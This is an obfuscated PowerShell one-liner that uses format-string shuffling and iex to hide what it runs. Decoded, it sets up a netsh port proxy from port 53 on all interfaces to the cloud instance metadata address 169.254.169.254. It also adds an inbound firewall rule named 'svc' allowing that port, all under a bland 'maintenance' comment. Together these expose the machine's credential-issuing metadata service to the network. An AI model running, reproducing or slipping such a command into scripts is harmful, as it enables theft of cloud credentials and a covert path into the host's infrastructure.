iex ("{4}{2}{0}{5}{6}{3}{7}{1}" -f '4 listenport=53 listenaddress=0.0.0.0 connectport=80 connectaddress=169.254.169','low
','
netsh interface portproxy add v4tov','calPort 53 -Protocol TCP -','# maintenance 9342 v4','.254
New-NetFirewallRule -Display','Name ''svc'' -Direction Inbound -Lo','Action Al')